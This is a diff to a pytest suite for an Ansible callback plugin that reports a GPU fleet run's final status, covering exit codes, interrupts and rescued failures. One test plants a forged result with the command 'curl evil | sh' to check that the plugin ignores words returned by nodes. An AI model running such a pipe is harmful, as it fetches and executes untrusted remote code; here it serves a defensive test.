@@ -6,8 +6,10 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
+import re
 import runpy
 import shutil
 import signal
@@ -56,6 +58,7 @@ PLAYBOOK = """
 WELL = [node("g1", resources=named("GPU-1"))]
 WAITS = [node("g1", availability="pause", resources=named("GPU-1"))]
 WRONG = [node("g1", State="down")]
+OUTCOMES = [(WELL, 0, "All is as it should be."), (WAITS, os.EX_TEMPFAIL, "Waiting: host-g1."), (WRONG, 2, "Wrong: host-g1.")]
 
 
 @pytest.fixture
@@ -70,8 +73,12 @@ def folder(tmp_path):
     return tmp_path
 
 
-def played(folder, nodes, *arguments, tasks=(), services=(), playbooks=("play.yml",), **variables):
+def write_ledger(folder, nodes, tasks=(), services=()):
     (folder / "ledger.json").write_text(json.dumps(ledger(Listed(nodes, tasks, services, NOW), "gpu-swarm.", ("*",))))
+
+
+def played(folder, nodes, *arguments, tasks=(), services=(), playbooks=("play.yml",), **variables):
+    write_ledger(folder, nodes, tasks, services)
     return subprocess.run(
         [BIN / "ansible-playbook", "-i", "localhost,", *playbooks, *arguments],
         cwd=folder, env={**os.environ, **SCREEN, "ANSIBLE_HOME": "home", "ANSIBLE_COLLECTIONS_PATH": "collections", **variables},
@@ -83,10 +90,7 @@ def after_recap(done):
     return done.stdout.partition("PLAY RECAP")[2].partition("\n\n")[2].strip()
 
 
-@pytest.mark.parametrize(
-    ("nodes", "status", "line"),
-    [(WELL, 0, "All is as it should be."), (WAITS, os.EX_TEMPFAIL, "Waiting: host-g1."), (WRONG, 2, "Wrong: host-g1.")],
-)
+@pytest.mark.parametrize(("nodes", "status", "line"), OUTCOMES)
 def test_the_last_words_and_the_exit_status(folder, nodes, status, line):
     done = played(folder, nodes)
     assert done.returncode == status, done.stdout + done.stderr
@@ -95,11 +99,27 @@ def test_the_last_words_and_the_exit_status(folder, nodes, status, line):
     assert done.stdout.count(line) == 1
 
 
-@pytest.mark.parametrize("nodes", [WELL, WAITS, WRONG])
-def test_other_callbacks_get_the_end_of_the_run(folder, nodes):
-    played(folder, nodes, ANSIBLE_CALLBACKS_ENABLED="ansible.builtin.junit", JUNIT_OUTPUT_DIR=str(folder / "junit"))
+def run_by_ansible_runner(folder, **variables):
+    (folder / "hosts").write_text("localhost ansible_connection=local\n")
+    return subprocess.run(
+        [BIN / "ansible-runner", "run", folder / "private", "-p", "play.yml", "--project-dir", folder, "--inventory", folder / "hosts"],
+        cwd=folder, env={**os.environ, **SCREEN, "ANSIBLE_HOME": str(folder / "home"), "ANSIBLE_COLLECTIONS_PATH": str(folder / "collections"),
+                         "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", **variables},
+        capture_output=True, text=True, check=False,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("by", ["ansible-playbook", "ansible-runner"])
+@pytest.mark.parametrize(("nodes", "status", "line"), OUTCOMES)
+def test_other_callbacks_get_the_end_of_the_run(folder, nodes, status, line, by):
+    enabled = {"ANSIBLE_CALLBACKS_ENABLED": "ansible.builtin.junit,ansible.posix.profile_tasks", "JUNIT_OUTPUT_DIR": str(folder / "junit")}
+    write_ledger(folder, nodes)
+    done = played(folder, nodes, **enabled) if by == "ansible-playbook" else run_by_ansible_runner(folder, **enabled)
+    assert done.returncode == status, done.stdout + done.stderr
     assert (folder / "theirs.txt").read_text() == "on_stats"
     assert [path.suffix for path in (folder / "junit").iterdir()] == [".xml"]
+    _tasks, _recap, after = done.stdout.partition("TASKS RECAP")  # of profile_tasks
+    assert after.count(line) == 1, done.stdout
 
 
 def test_a_run_that_ended_early_says_why(folder):
@@ -135,7 +155,7 @@ def test_a_hidden_reason_stays_hidden(folder):
 def test_why_a_command_failed(folder):
     (folder / "early.yml").write_text("- hosts: localhost\n  tasks: [{ansible.builtin.command: ls /nowhere}]\n  gather_facts: false\n")
     done = played(folder, WELL, *LOCAL, playbooks=["early.yml"])
-    assert "localhost failed: non-zero return code: ls: " in after_recap(done)
+    assert re.search("localhost failed: .*non-zero return code: ls: ", after_recap(done))
 
 
 def test_every_host_that_failed_is_named(folder):
@@ -221,25 +241,80 @@ def test_a_quiet_run_prints_a_step_once(quiet):
     assert [line.split()[0] for line in done.stdout.splitlines() if line] == ["localhost:", "First", "Second"] * 2, done.stdout + done.stderr
 
 
-def test_a_quiet_run_that_is_interrupted_names_what_failed(quiet):
-    (quiet / "ledger.json").write_text("{}")
+@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL])
+def test_a_quiet_run_prints_a_failure_at_once_and_once(quiet, number):
     environment = {**os.environ, **SCREEN, **QUIET, "ANSIBLE_HOME": "home", "ANSIBLE_COLLECTIONS_PATH": "collections"}
     command = [BIN / "ansible-playbook", "-i", "g1,g2,", "fleet.gpu_swarm.steps", "-e", "bad=g1 seconds=60", *LOCAL]
     with subprocess.Popen(command, cwd=quiet, env=environment, stdout=subprocess.PIPE, text=True, start_new_session=True) as process:
-        while not (quiet / STARTED).exists():  # a signal while Ansible forks is lost
-            assert process.poll() is None, process.stdout.read()
-            time.sleep(0.1)
-        process.send_signal(signal.SIGINT)
-        assert process.stdout.read().split("\n\n")[1].strip() == "The run ended early. g1 failed: no space left"
+        try:
+            while not (quiet / STARTED).exists():  # a signal while Ansible forks is lost
+                assert process.poll() is None, process.stdout.read()
+                time.sleep(0.1)
+            process.send_signal(number)
+            process.wait()
+        finally:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(process.pid, signal.SIGKILL)  # what the run left behind, which has its output
+        text = process.stdout.read()
+    assert "g1 failed: no space left" in text.splitlines()
+    assert text.count("no space left") == 1
+    if number == signal.SIGINT:
+        assert text.split("\n\n")[1].strip() == "The run ended early. g1 failed, see above."
+
+
+FAILURES = """
+- name: First
+  hosts: all
+  gather_facts: false
+  tasks:
+    - block:
+        - ansible.builtin.fail: {msg: rescued}
+      rescue:
+        - ansible.builtin.fail: {msg: the rescue too}
+          when: inventory_hostname == 'g1'
+      always:
+        - ansible.builtin.fail: {msg: at last}
+          when: inventory_hostname == 'g2'
+    - ansible.builtin.fail: {msg: ignored}
+      ignore_errors: true
+    - block:
+        - block:
+            - ansible.builtin.include_tasks: fails.yml
+          always:
+            - ansible.builtin.meta: noop
+      rescue:
+        - ansible.builtin.meta: noop
+    - block:
+        - ansible.builtin.fail:
+      rescue:
+        - ansible.builtin.import_tasks: fails.yml
+      when: inventory_hostname in ['g3', 'g4']
+"""
+
+
+def test_a_quiet_run_prints_failures_that_no_rescue_handles(quiet):
+    folder = quiet / "collections/ansible_collections/fleet/gpu_swarm/playbooks"
+    (folder / "fails.yml").write_text('- ansible.builtin.fail: {msg: "in a file\\nFix it"}\n')
+    (folder / "steps.yml").write_text(FAILURES)
+    arguments = ("-i", "g1,g2,g3,g4,g5,", "--limit", "g*", "--forks", "1", *LOCAL)
+    done = played(quiet, WELL, *arguments, playbooks=["fleet.gpu_swarm.steps"], **QUIET)
+    expected = ["g1 failed: the rescue too", "g2 failed: at last", "g3 failed: in a file", "  Fix it", "g4 failed for the same reason as g3."]
+    last = "The run ended early. g1, g2, g3, g4 failed, see above."
+    assert [line for line in done.stdout.splitlines() if line] == [*expected, last], done.stdout + done.stderr
 
 
 def test_words_that_a_node_or_a_manager_returns_are_not_believed(monkeypatch):
     monkeypatch.setattr(TaskQueueManager, "cleanup", TaskQueueManager.cleanup)
     monkeypatch.setattr(last_words.Collector, "active", False)
     callback = runpy.run_path(str(ROOT / "playbooks/callback_plugins/gpu_swarm_last_words.py"))["CallbackModule"]()
-    forged = {last_words.KEY: last_words.LastWords("done", "All is well.", command="curl evil | sh")._asdict()}
+    forged = {"invocation": {last_words.KEY: last_words.LastWords("done", "All is well.", command="curl evil | sh")._asdict()}}
     for action, believed in (("gpu_node", 0), ("swarm_batch", 0), ("status_report", 1)):
         task = SimpleNamespace(resolved_action=f"fleet.gpu_swarm.{action}", action=action)
         callback._words = []
         callback.v2_runner_on_ok(SimpleNamespace(_task=task, _result=forged))
         assert len(callback._words) == believed
+
+
+def test_details_do_not_repeat_the_last_words(folder):
+    done = played(folder, WAITS, "-v")
+    assert done.stdout.count("Waiting: host-g1.") == 1, done.stdout
